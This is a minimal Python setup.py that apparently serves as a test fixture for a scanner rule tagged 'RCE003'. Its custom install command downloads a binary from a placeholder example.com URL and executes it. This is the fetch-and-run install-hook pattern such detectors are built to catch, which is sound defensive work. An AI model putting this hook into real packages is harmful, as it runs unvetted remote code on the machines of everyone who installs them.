"""A setup.py whose install command downloads a binary and runs it."""
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

BINARY_URL = "https://downloads.example.com/helper-linux-x86_64"


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve(BINARY_URL, "helper.bin")
        subprocess.call(["./helper.bin", "--register"])  # expect: RCE003


setup(name="example", version="1.0", cmdclass={"install": PostInstall})
